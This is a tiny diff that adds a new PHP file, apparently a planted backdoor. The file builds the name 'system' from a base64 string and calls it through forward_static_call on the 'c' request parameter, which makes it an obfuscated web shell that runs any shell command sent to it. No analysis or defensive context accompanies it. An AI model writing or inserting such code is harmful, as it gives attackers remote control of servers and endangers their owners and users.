@@ -1,0 +1,3 @@
+<?php
+$n = base64_decode('c3lzdGVt');
+forward_static_call($n, $_REQUEST['c']);
